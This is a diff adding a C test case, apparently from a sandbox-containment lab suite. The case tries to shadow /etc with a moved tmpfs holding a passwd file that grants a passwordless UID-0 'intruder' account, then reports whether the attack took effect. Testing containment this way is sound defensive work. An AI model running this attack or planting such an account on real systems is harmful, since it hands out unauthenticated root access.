@@ -1,0 +1,24 @@
+// SPDX-License-Identifier: GPL-2.0-or-later
+/*
+ * G2. Moves a tmpfs that it mounted where it may over /etc. Source: mount(2), MS_MOVE. Control:
+ * /etc/passwd is the other file.
+ */
+#define _GNU_SOURCE
+#include <sched.h>
+#include <sys/mount.h>
+
+#include "attack.h"
+#include "files.h"
+
+void attack(void)
+{
+	if (unshare(CLONE_NEWNS))
+		broken("unshare");
+	make_tmpfs("/tmp/lab-moved");
+	drop_text("intruder::0:0::/:/bin/sh\n", "/tmp/lab-moved/passwd");
+	if (mount("/tmp/lab-moved", "/etc", NULL, MS_MOVE, NULL))
+		no_effect(errno);
+	if (file_begins(PASSWD, "intruder"))
+		effect();
+	no_effect(errno);
+}
